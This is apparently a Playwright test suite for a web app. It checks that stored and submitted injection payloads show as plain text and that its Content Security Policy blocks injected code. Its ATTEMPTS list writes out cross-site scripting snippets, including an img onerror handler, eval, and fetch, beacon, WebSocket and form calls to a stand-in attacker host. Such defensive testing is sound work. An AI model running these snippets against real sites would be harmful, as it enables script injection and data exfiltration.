import { deepEqual, equal, ok } from "node:assert/strict";
import type { BrowserContext, Page } from "playwright-core";
import { type TestApp, testApp } from "../fixtures/app.ts";
import { browserTest, WITHOUT_BROWSER } from "../fixtures/browser.ts";
import { elementsOf } from "../fixtures/html.ts";
import { EVIL_HOST, PAYLOADS } from "../fixtures/injection_corpus.ts";
import { fillWithPayloads, KEY_OWNER } from "../fixtures/injection_store.ts";
import { inlineFaults, type Route } from "../fixtures/page_routes.ts";
import { sessionCookie, visit } from "../fixtures/pages.ts";

/** Before anything of a page: what payloads call, and an ear for the policy. */
const WATCH = `
  globalThis.happened = [];
  globalThis.pwn = () => happened.push("a payload ran");
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
    happened.push(["the policy was needed:", effectiveDirective, blockedURI, sample].join(" ")));`;

/** What can be seen of a page: its elements once more as HTML, its text and that of its fields, and what {@link WATCH} noticed. */
interface Seen {
  readonly html: string;
  readonly text: string;
  readonly happened: readonly string[];
}
const LOOK = `({
  html: document.documentElement.outerHTML,
  text: [document.documentElement.textContent,
    ...[...document.querySelectorAll("input, textarea")].map((field) => field.value)].join("\\n"),
  happened,
})`;

/** A page of a browser that notices everything a payload could do. */
interface Watched {
  readonly page: Page;
  signIn(username: string): Promise<void>;
  /** Goes to a path; returns the text of the page, with what its fields hold. */
  read(path: string): Promise<string>;
}

async function watched(app: TestApp, page: Page, url: string): Promise<Watched> {
  const faults: string[] = [];
  const context: BrowserContext = page.context();
  await context.addInitScript(WATCH);
  await context.route((address) => address.origin !== url, async (route) => {
    faults.push(`a request to ${route.request().url().slice(0, 100)}`);
    await route.abort();
  });
  page.on("dialog", (dialog) => {
    faults.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", () => faults.push("a window"));
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) faults.push(message.text().slice(0, 200));
  });
  return {
    page,
    async signIn(username): Promise<void> {
      await context.clearCookies();
      const [name, value] = (await sessionCookie(app, username)).split("=") as [string, string];
      await context.addCookies([{
        name,
        value,
        domain: "127.0.0.1",
        path: "/",
        secure: true,
        httpOnly: true,
      }]);
    },
    async read(path): Promise<string> {
      const response = await page.goto(path, { waitUntil: "load" });
      const { html, text, happened } = await page.evaluate<Seen>(LOOK);
      deepEqual([...happened, ...faults], [], path);
      deepEqual(inlineFaults(html), [], path);
      equal(new URL(page.url()).origin, url);
      ok((response?.status() ?? 0) < 500, `${path} answers ${response?.status()}`);
      return text;
    },
  };
}

/** How often a page shows a text, as a parser of HTML hands it on. */
function timesShown(page: string, text: string): number {
  const plain = (value: string): string => value.replaceAll(/[\0\ufffd]/g, "").replaceAll(/\r\n?/g, "\n");
  return plain(page).split(plain(text)).length - 1;
}

Deno.test("the corpus is large, and no two of it are the same", () => {
  ok(PAYLOADS.length >= 50);
  equal(new Set(PAYLOADS.map(({ text }) => text)).size, PAYLOADS.length);
});

Deno.test({
  name: "on the pages of units every payload in every field is shown as text, and nothing of it runs",
  ignore: WITHOUT_BROWSER,
  async fn(): Promise<void> {
    await using test = await browserTest();
    const { app } = test;
    const victims = await fillWithPayloads(app);
    const { page, signIn, read } = await watched(app, await test.open(), test.url);
    let saidAlready = 0;
    for (const { text, username, pendingId, decidedId, approvedId } of victims) {
      await signIn(username);
      const proposer = encodeURIComponent(username);
      const pages: readonly (readonly [path: string, least: number])[] = [
        [`/review?unit=${pendingId}&proposer=${proposer}`, 12],
        [`/review?unit=${pendingId}&proposer=${proposer}&edit=1`, 9],
        [`/units/${decidedId}`, 16],
        [`/units/${approvedId}/edit`, 8],
      ];
      for (const [path, least] of pages) {
        const shown = timesShown(await read(path), text);
        ok(shown >= least, `${path} shows ${shown} of ${least}: ${text.slice(0, 80)}`);
        const duplicates = await page.locator(".duplicates").allTextContents();
        if (duplicates.some((list) => timesShown(list, text) > 0)) saidAlready++;
      }
    }
    // Nearly every payload has words by which its other units are known as those that say the same.
    ok(saidAlready > victims.length * 0.8, `${saidAlready} of ${victims.length}`);
  },
});

Deno.test({
  name: "on every page that lists or counts, on all its pages, payloads are text",
  ignore: WITHOUT_BROWSER,
  async fn(): Promise<void> {
    await using test = await browserTest();
    const { app } = test;
    const victims = await fillWithPayloads(app);
    const { page, signIn, read } = await watched(app, await test.open(), test.url);
    await signIn(KEY_OWNER);
    const units = victims.map(({ pendingId }) => `unit=${pendingId}`).join("&");
    // The export is no page: a browser stores it.
    const lists = app.server.pages.filter(({ method, path }) =>
      method === "GET" && !path.includes("{") && path !== "/settings/audit/export"
    ).map(({ path }) => path);
    for (const path of [...lists, "/settings/api-keys?show=all", `/review/bulk?verb=reject&${units}`]) {
      let shown = await read(path);
      for (let pages = 1; pages < 10; pages++) {
        const next = page.locator("a[rel=next]").first();
        if (await next.count() === 0) break;
        shown += await read((await next.getAttribute("href"))!);
      }
      // One's own account shows nothing of others, and none of the victims signed in yet.
      const isOfOthers = !["/settings/account", "/settings/audit/sign-ins"].some((own) =>
        path.startsWith(own)
      );
      if (!/^\/(?:review|units|settings)/.test(path) || !isOfOthers) continue;
      const missing = victims.filter(({ text }) => timesShown(shown, text) === 0);
      // Without units to act on there is nothing to show.
      if (path !== "/review/bulk") deepEqual(missing, [], path);
    }
  },
});

/** What a page is made of, its texts left aside. */
function structureOf(html: string): string[] {
  return elementsOf(html).map(({ name, attributes }) => [name, ...attributes.keys()].join(" "));
}

/** A text of the same length and lines that no parser takes for anything else. */
function harmless(text: string): string {
  return text.replaceAll(/[^\p{Cc}\p{Z}]/gu, "x");
}

Deno.test("what is sent in forms and addresses comes back as text: no page is built otherwise for it", async () => {
  await using app = await testApp();
  const cookie = await sessionCookie(app, "ada");
  const key = await app.apiKey("ada");
  const unitId = await app.unit({ key, approve: false });
  const approvedId = await app.unit({ key });
  const edit = (text: string): Record<string, string> => ({
    summary: text,
    detail: text,
    action: text,
    domains: "",
    languages: text,
    frameworks: text,
    pattern: text,
  });
  const forms: readonly (readonly [route: Route, form: (text: string) => Record<string, string>])[] = [
    ["POST /login", (text) => ({ username: text, password: text })],
    [`POST /review/${unitId}/edit`, edit],
    [
      "POST /settings/api-keys",
      (text) => ({
        name: text.slice(0, 40),
        labels: text.slice(0, 30),
        ttl: "other",
        other_ttl: text.slice(0, 16),
      }),
    ],
    [`POST /units/${approvedId}/edit`, edit],
    ["POST /settings/users", (text) => ({ username: text, role: text, password: text, again: "x" })],
    ["POST /settings/audit/check", (text) => ({ known: text })],
    ["POST /review/bulk", (text) => ({ verb: "reject", unit: "ku_x", note: text.slice(0, 400), back: text })],
  ];
  const everywhere = [
    "q",
    "domain",
    "proposer",
    "by",
    "next",
    "back",
    "sort",
    "status",
    "show",
    "actor",
    "kind",
    "subject",
  ];
  const addresses = app.server.pages.filter(({ method }) => method === "GET")
    .map(({ path }) => path.replace("{id}", approvedId).replace("{name}", "x") as `/${string}`);
  const short = PAYLOADS.filter(({ text }) => text.length < 200);
  for (const path of addresses) {
    const page = async (names: readonly string[], text: string): Promise<[number, string[]]> => {
      const search = new URLSearchParams(names.map((name) => [name, text]));
      const response = await visit(app, `GET ${path}?${search}`, { cookie });
      return [response.status, structureOf(await response.text())];
    };
    const bare = JSON.stringify(await page([], ""));
    for (const names of [everywhere, ["unit"], ["after"], ["before"]]) {
      const plain = await page(names, "harmless");
      // A name that the page does not know comes back in the address at most, and for that the first group will do.
      if (names !== everywhere && JSON.stringify(plain) === bare) continue;
      for (const { text } of short) deepEqual(await page(names, text), plain, `${path} ${names}: ${text}`);
    }
  }
  for (const [route, form] of forms) {
    const page = async (text: string): Promise<[number, string[]]> => {
      const response = await visit(app, route, { cookie, form: form(text) });
      return [response.status, structureOf(await response.text())];
    };
    for (const { text } of PAYLOADS) {
      // Refusing a name that nobody has takes as long as a real password does.
      for (const name of [text, harmless(text)]) if (route === "POST /login") await app.signIn(name);
      deepEqual(await page(text), await page(harmless(text)), `${route} ${text.slice(0, 80)}`);
    }
  }
});

/** What a page might try, each in a function of its own, and the directive of the policy that stands against it. */
const ATTEMPTS: readonly (readonly [directive: string, code: string])[] = [
  ["script-src-elem", `add("script", { textContent: "pwn()" })`],
  ["script-src-elem", `add("script", { src: "https://${EVIL_HOST}/x.js" })`],
  ["script-src-elem", `add("script", { src: "data:text/javascript,pwn()" })`],
  ["script-src-elem", `add("script", { type: "module", textContent: "pwn()" })`],
  ["script-src-elem", `add("a", { href: "javascript:pwn()" }).click()`],
  ["script-src-elem", `import("https://${EVIL_HOST}/x.js").catch(() => {})`],
  ["script-src-attr", `const p = add("p"); p.setAttribute("onclick", "pwn()"); p.click()`],
  ["script-src-attr", `add("div", { innerHTML: "<img src=/none onerror=pwn()>" })`],
  ["script-src", `try { eval("pwn()") } catch {}`],
  ["script-src", `try { new Function("pwn()")() } catch {}`],
  ["script-src", `setTimeout("pwn()")`],
  ["worker-src", `try { new Worker("data:text/javascript,0") } catch {}`],
  ["style-src-elem", `add("style", { textContent: "* { color: red }" })`],
  ["style-src-elem", `add("link", { rel: "stylesheet", href: "https://${EVIL_HOST}/x.css" })`],
  ["style-src-attr", `add("p").setAttribute("style", "color: red")`],
  ["img-src", `add("img", { src: "https://${EVIL_HOST}/x.png" })`],
  ["media-src", `add("video", { src: "https://${EVIL_HOST}/x.mp4" })`],
  ["font-src", `new FontFace("x", "url(https://${EVIL_HOST}/x.woff2)").load().catch(() => {})`],
  ["connect-src", `fetch("https://${EVIL_HOST}/").catch(() => {})`],
  ["connect-src", `navigator.sendBeacon("https://${EVIL_HOST}/", "x")`],
  ["connect-src", `try { new WebSocket("wss://${EVIL_HOST}/") } catch {}`],
  ["frame-src", `add("iframe", { src: "https://${EVIL_HOST}/" })`],
  ["object-src", `add("object", { data: "https://${EVIL_HOST}/x" })`],
  ["base-uri", `add("base", { href: "https://${EVIL_HOST}/" })`],
  ["form-action", `add("form", { method: "post", action: "https://${EVIL_HOST}/" }).submit()`],
];

Deno.test({
  name:
    "the policy stops code, styles, pictures, requests, frames and forms that get into a page all the same",
  ignore: WITHOUT_BROWSER,
  async fn(): Promise<void> {
    await using test = await browserTest();
    const page = await test.signedIn("ada");
    const left: string[] = [];
    await page.context().route((address) => address.origin !== test.url, async (route) => {
      left.push(route.request().url());
      await route.abort();
    });
    await page.goto("/review");
    await page.evaluate(`globalThis.ran = 0; globalThis.pwn = () => ran++;
      globalThis.add = (name, fields = {}) => {
        const element = Object.assign(document.createElement(name), fields);
        document.body.append(element);
        return element;
      }`);
    for (const [directive, code] of ATTEMPTS) {
      const stopped = await page.evaluate<string>(`new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
        // As a task of the page: what the debugger runs itself may evaluate texts.
        setTimeout(() => { ${code} });
        setTimeout(() => resolve("nothing"), 5_000);
      })`);
      equal(stopped, directive, code);
    }
    deepEqual([await page.evaluate("ran"), left, new URL(page.url()).pathname], [0, [], "/review"]);
    const framing = await test.open();
    await framing.setContent(`<iframe src="${test.url}/login"></iframe>`);
    equal(await framing.frameLocator("iframe").getByLabel("Password").count(), 0);
  },
});
